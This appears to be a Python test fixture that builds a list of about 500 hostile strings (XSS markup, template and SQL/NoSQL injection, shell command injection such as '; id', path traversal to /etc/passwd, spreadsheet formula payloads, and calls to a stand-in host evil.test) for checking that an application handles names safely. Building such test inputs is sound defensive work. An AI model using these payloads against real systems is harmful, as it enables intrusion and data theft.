"""500 texts that would do harm where a page took them for markup, templates, addresses, formats or directions."""

from __future__ import annotations

from itertools import product

MAX_LENGTH = 200
ENDS = ("", '">', "'>", "`>", "-->", "]]>", "</script>", "</title>", "</textarea>", "</style>", "</canvas>")
ELEMENTS = r"""
<img src=//evil.test/x onerror=alert(1)>
<script>alert(1)</script>
<script src=//evil.test/x.js></script>
<svg/onload=alert(1)>
<iframe srcdoc='<script>alert(1)</script>'>
<a href=javascript:alert(1)>Ada</a>
<style>*{display:none}</style>
<link rel=stylesheet href=//evil.test>
<base href=//evil.test>
<meta http-equiv=refresh content=0>
<form action=//evil.test><input name=key autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<object data=//evil.test>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
"""
EVENTS = ("onclick", "onfocus", "onerror", "onload", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle")
TEMPLATES = r"""
{{7*7}}
{{constructor.constructor('alert(1)')()}}
${alert(1)}
${{7*7}}
<%= 7*7 %>
#{7*7}
*{7*7}
@{7*7}
[[${7*7}]]
{% debug %}
{{_self.env}}
{$smarty.version}
{0.__class__.__init__.__globals__}
{n} {name} {day} {faces}
`${alert(1)}`
$&
$'
$1
<#assign x=1>
"""
ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
//evil.test
https://evil.test/a.png
http://evil.test@127.0.0.1
\\evil.test\share
file:///etc/passwd
blob:null
#/keys
#/people/new
?collection=other
../../etc/passwd
..%2f..%2fkeys
%00
%0d%0aSet-Cookie:%20a=b
%E0%A4%A
C:\aux
con
a|b
"""
ENCODED = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)
&#x3c;img src=x onerror=alert(1)&#x3e;
\u003cscript\u003ealert(1)
\x3cscript\x3ealert(1)
%3Cscript%3Ealert(1)%3C/script%3E
%253Cscript%253E
+ADw-script+AD4-alert(1)
＜script＞alert(1)＜/script＞
‹img src=x onerror=alert(1)›
<scr<script>ipt>alert(1)
<!--[if IE]><script>alert(1)</script><![endif]-->
"""
QUERIES = r"""
'; DROP TABLE persons; --
' OR '1'='1
" OR ""="
1; SELECT pg_sleep(9)
%
_
\%
x' UNION SELECT name FROM api_keys --
$$; DROP TABLE persons; $$
admin'/*
) OR (1=1
{"$gt": ""}
{"$where": "sleep(9)"}
*)(uid=*
"}],"type":"bye"
"""
FORMATS = r"""
%s%s%s%n
%x%x%d
%(name)s
{}
{!r}
$(id)
`id`
; id
| id
&& id
~root
$HOME
%PATH%
!!python/object/apply:os.system
\N{BULLET}
"""
WORDS = r"""
__proto__
constructor
prototype
hasOwnProperty
toString
valueOf
then
null
undefined
None
nil
NaN
Infinity
-0
0
1e999
true
false
[object Object]
[]
function(){}
new
People
Erase
self
"""
SCRIPTS = r"""
محمد
עדה
Ada محمد <b>
עדה (Ada) 123
अदा
เอดา
艾达
エイダ
에이다
Ада
Αδα
Ἄδα
ადა
Ադա
ⵄⴷⴰ
ᠠᠳᠠ
𒀀𒁕
𝓐𝓭𝓪
Аdа
İIıi
ß ẞ ſ
"""
NUMBERS = r"""
007
1e5
0x10
１
½
٣
1,5
+49 30
"""
EMOJI = (
    "💣" * 50,
    "👩\u200d👧" * 20,
    "🇩🇪" * 50,
    "👩🏽\u200d🚀",
    "1\ufe0f\u20e3",
    "❤\ufe0f",
    "🏴\U000e0067\U000e0062\U000e007f",
    "🏻",
    "☺\ufe0e",
    "🫠",
)
UNSEEN = (
    "\u200b\u200c\u200d\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069"
    "\ufeff\u00ad\u034f\u115f\u3164\u180e\u2028\u2029\ue000\ufffd\uffff\U000e0001"
)
CONTROLS = [chr(code) for code in (*range(1, 0x20), *range(0x7F, 0xA0))]
FORMULAS = ('HYPERLINK("http://evil.test")', "cmd|' /C calc'!A0", "SUM(1)", "IMPORTXML(1)", "1+1")


def split(lines: str) -> list[str]:
    """Return the lines of a family."""
    return lines.strip("\n").split("\n")


FAMILIES: dict[str, list[str]] = {
    "markup": [end + element for element, end in product(split(ELEMENTS), ENDS)],
    "attributes": [f"{quote} {event}=alert(1) {quote}" for event, quote in product(EVENTS, "'\"`")],
    "templates": split(TEMPLATES),
    "addresses": split(ADDRESSES),
    "encoded": split(ENCODED),
    "queries": split(QUERIES),
    "formats": split(FORMATS),
    "words": split(WORDS),
    "numbers": split(NUMBERS),
    "scripts": split(SCRIPTS),
    "emoji": list(EMOJI),
    "unseen": [text.format(one) for one in UNSEEN for text in ("{}Ada", "gpj.ad{}A")],
    "controls": [f"A{one}b" for one in CONTROLS],
    "formulas": [start + formula for formula, start in product(FORMULAS, "=+-@\t\r")],
    "long": [one * (MAX_LENGTH // len(one)) for one in ("W", "ﷺ", "﷽", "Ｗ", "i ", "a-", "Z\u0301", "ﺼ", "<b>")]
    + ["Z" + "\u0301" * 150],
    "spaces": [" Ada ", "\u3000", "Ada\u2003Bob", "A\u00a0b", "."],
}
HOSTILE_NAMES = [name for family in FAMILIES.values() for name in family]
HOSTILE_SAMPLE = [name for family in FAMILIES.values() for name in (family[0], family[-1])]
"""For places where each takes a while; two of each family."""
